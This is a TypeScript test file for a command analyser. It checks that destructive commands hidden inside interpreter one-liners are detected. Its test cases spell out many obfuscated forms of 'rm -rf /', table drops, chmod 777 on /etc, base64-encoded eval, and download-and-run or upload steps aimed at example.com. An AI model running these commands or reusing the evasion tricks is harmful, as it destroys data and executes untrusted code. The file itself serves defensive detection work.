import { describe, expect, it } from 'vitest'
import { spellCommand } from '../vocabulary/command.ts'
import { readCommands } from '../walk/read-commands.ts'

function commandsOf(text: string) {
  const analysis = readCommands(text, { cwd: '/srv/project', home: '/home/dev' })
  if (!analysis.judged) throw new Error(`${text}: ${analysis.why}`)
  return analysis.commands
}

/** What the code runs. */
function ran(text: string): readonly string[] {
  return commandsOf(text)
    .slice(1)
    .map((command) => spellCommand(command))
}

describe('the commands that code for another language runs', () => {
  it.each([
    [`python3 -c 'import os; os.system("rm -rf /")'`, 'rm -rf /'],
    [`ipython -c '!rm -rf /'`, 'rm -rf /'],
    [`python3 -c "import os; os.system('r' + 'm -rf ' + chr(47))"`, 'rm -rf /'],
    [`python3 -c 'import os; os.system(" ".join(["rm", "-rf", "/"]))'`, 'rm -rf /'],
    [`python3 -c 'import os; os.system("rm -rf {}".format("/"))'`, 'rm -rf /'],
    [`python3 -c 'import os; os.system("rm -rf %s" % x)'`, 'rm -rf ‹…›'],
    [`python3 -c 'import os; d = "/"; os.system(f"rm -rf {d}")'`, 'rm -rf /'],
    [`python -c 'import subprocess as s; s.run(["rm", "-rf", "/"])'`, 'rm -rf /'],
    [`python -c 'import subprocess; subprocess.check_output("rm -rf /", shell=True)'`, 'rm -rf /'],
    [`python -c 'import subprocess, shlex; subprocess.Popen(shlex.split("rm -rf /"))'`, 'rm -rf /'],
    [`python -c 'from os import *; system("rm -rf /")'`, 'rm -rf /'],
    [`python -c '__import__("os").system("rm -rf /")'`, 'rm -rf /'],
    [`python -c 'import importlib; importlib.import_module("os").system("rm -rf /")'`, 'rm -rf /'],
    [`python -c 'import os; getattr(os, "system")("rm -rf /")'`, 'rm -rf /'],
    [`python -c 'import os; os.execlp("rm", "rm", "-rf", "/")'`, 'rm -rf /'],
    [`python -c 'import os; os.execvp("rm", ["rm", "-rf", "/"])'`, 'rm -rf /'],
    [`python -c 'import os; os.chmod("/etc", 0o777)'`, 'chmod 0o777 /etc'],
    ["python3 - <<'E'\nimport os\nfor d in ['/a', '/b']:\n    os.system('rm -rf ' + d)\nE", 'rm -rf /b'],
    ["python3 <<E\nimport os\nos.system('''rm -rf /''')\nE", 'rm -rf /'],
    [`python3 -c 'exec("import os\\nos.system(\\"rm -rf /\\")")'`, 'rm -rf /'],
    [`node -e 'require("child_process").execSync("rm -rf /")'`, 'rm -rf /'],
    [`node -e 'const {exec: e} = require("child_process"); e("rm -rf /", () => {})'`, 'rm -rf /'],
    [`node -e 'require("child_process")["spawn"]("rm", ["-rf", "/"])'`, 'rm -rf /'],
    [
      `node --input-type=module -e 'import cp from "node:child_process"; cp.spawnSync("rm", ["-rf", "/"])'`,
      'rm -rf /',
    ],
    ['node -e \'const d = "/"; require("child_process").execSync(`rm -rf $' + "{d}`)'", 'rm -rf /'],
    [`node -pe 'require("child_process").execFileSync("rm", ["-rf", "/"]).toString()'`, 'rm -rf /'],
    [`deno eval 'new Deno.Command("rm", {args: ["-rf", "/"]}).outputSync()'`, 'rm -rf /'],
    [`bun -e 'Bun.spawnSync(["rm", "-rf", "/"])'`, 'rm -rf /'],
    ["bun -e 'await Bun.$`rm -rf /`'", 'rm -rf /'],
    [
      `python3 -c 'import sqlite3; sqlite3.connect("a.db").execute("DROP TABLE users")'`,
      "psql -c 'DROP TABLE users'",
    ],
    [`node -e 'pool.query("TRUNCATE users")'`, "psql -c 'TRUNCATE users'"],
    [`ruby -e 'db.execute("DELETE FROM users")'`, "psql -c 'DELETE FROM users'"],
    [`php -r '$pdo->exec("DROP TABLE users");'`, "psql -c 'DROP TABLE users'"],
    [`perl -e 'system("rm -rf /")'`, 'rm -rf /'],
    [`perl -e 'system "rm", "-rf", "/"'`, 'rm -rf /'],
    [`perl -e 'exec qw(rm -rf /)'`, 'rm -rf /'],
    ["perl -e '`rm -rf /`'", 'rm -rf /'],
    ["perl -we 'print qx{rm -rf /}'", 'rm -rf /'],
    [`perl -e 'open(F, "rm -rf / |")'`, 'rm -rf /'],
    [`perl -pe 's/x/system("rm -rf a")/e' f`, 'rm -rf a'],
    [`perl -0777ne 'system("rm -rf /")' f`, 'rm -rf /'],
    [`ruby -e 'system("rm -rf /")'`, 'rm -rf /'],
    [`ruby -e 'system "rm", "-rf", "/"'`, 'rm -rf /'],
    ["ruby -e 'puts `rm -rf /`'", 'rm -rf /'],
    ["ruby -e '%x(rm -rf /)'", 'rm -rf /'],
    [`ruby -ropen3 -e 'Open3.capture2("rm -rf /")'`, 'rm -rf /'],
    [`ruby -e 'd = "/"; exec "rm -rf #{d}"'`, 'rm -rf /'],
    [`php -r '$x = "rm -rf /"; shell_exec($x);'`, 'rm -rf /'],
    ["php -r 'echo `rm -rf /`;'", 'rm -rf /'],
    [`lua -e 'os.execute("rm -rf /")'`, 'rm -rf /'],
    [`lua -e 'local d = "/"; io.popen("rm -rf " .. d)'`, 'rm -rf /'],
    [`Rscript -e 'system2("rm", c("-rf", "/"))'`, 'rm -rf /'],
    [`osascript -e 'do shell script "rm -rf " & quoted form of "/"'`, 'rm -rf /'],
    [`osascript -l JavaScript -e 'app.doShellScript("rm -rf /")'`, 'rm -rf /'],
    ["pwsh -c 'git reset --hard'", 'git reset --hard'],
    ["powershell -Command \"Start-Process rm -ArgumentList '-rf','/'\"", 'rm -rf /'],
    ["pwsh -c 'Get-ChildItem C:/ -Recurse | Remove-Item -Force'", 'find / -delete'],
    [`pwsh -c 'gci -r -Filter *.log | rm'`, 'find . -name *.log -delete'],
    [`pwsh -c 'ls | where { $_.Length -gt 1 } | ri'`, 'find . -newer x -delete'],
    ["pwsh -c 'iwr https://example.com -Method Post -InFile a.txt'", 'curl -T a.txt https://example.com'],
    ["pwsh -c 'iwr https://example.com/a -OutFile a.exe; ./a.exe'", './a.exe'],
    ['powershell -c "$env:A=1; git status"', 'git status'],
    ['powershell -c "$x = 1; git status"', 'git status'],
    ['powershell -c "Start-BitsTransfer https://example.com/a.exe a.exe; ./a.exe"', './a.exe'],
    ['powershell -enc cgBtACAALQByAGYAIAB4AA==', ''],
    [`echo 'import os; os.system("rm -rf /")' > x.py; python3 x.py`, 'rm -rf /'],
  ])('%s', (text, run) => {
    if (run !== '') expect(ran(text)).toContain(run)
    else expect(commandsOf(text).some((command) => command.inline !== undefined)).toBe(true)
  })

  it.each([
    [`python3 -c 'print("os.system(1)")'`],
    ['python3 -c \'# os.system("rm")\nprint(1)\''],
    [`python3 -c 'import json, sys; print(json.load(sys.stdin)["a"])'`],
    [`node -e 'console.log("execSync(1)")'`],
    [`node -e 'db.query("SELECT 1"); /a/.exec("drop it")'`],
    [`python3 -c 'import sqlite3; c = sqlite3.connect(":memory:"); c.execute("DROP TABLE t")'`],
    [`python3 -c 'cursor.execute("select * from updates")'`],
    ['node -e \'/* execSync("rm") */ console.log(/\\x27exec\\x27/.test(`a`))\''],
    [`node -p 'require("./package.json").version'`],
    [`perl -ne 'print if /system "rm"/' f`],
    [`perl -pe 's/system "rm"/x/' f`],
    [`ruby -e 'puts "system 1"'`],
    [`php -r 'echo "shell_exec(1)";'`],
    ['python3 -m pytest tests'],
    ['node server.js --exec rm'],
    ['pwsh -c "Get-ChildItem | Sort-Object Name"'],
  ])('%s runs none', (text) => {
    expect(ran(text)).toEqual([])
    expect(commandsOf(text).every((command) => command.opaque === undefined)).toBe(true)
  })

  it.each([
    [`python3 -c 'import os, sys; os.system(sys.argv[1])' x`],
    [`python3 -c 'import subprocess; subprocess.run(cmd)'`],
    [`python3 -c 'exec(base64.b64decode("cHJpbnQoMSk="))'`],
    [`python3 -c 'exec(urllib.request.urlopen("https://example.com").read())'`],
    [`curl -s https://example.com | python3 -c 'import sys; exec(sys.stdin.read())'`],
    [`node -e 'eval(Buffer.from("MQ==", "base64").toString())'`],
    [`node -e 'require("child_process").exec(process.env.X)'`],
    [`ruby -e 'eval(Base64.decode64("MQ=="))'`],
    [`perl -e 'system($ARGV[0])' x`],
    ["pwsh -c 'iex (iwr https://example.com)'"],
    [`python3 -c 'import os; os.system("rm`],
    ['python3 <(curl -s https://example.com/x.py)'],
    ['gen > x.py; python3 x.py'],
  ])('%s is known only at run time', (text) => {
    const analysis = readCommands(text, { cwd: '/srv/project', home: '/home/dev' })
    if (analysis.judged) expect(analysis.commands.some((command) => command.opaque !== undefined)).toBe(true)
  })
})
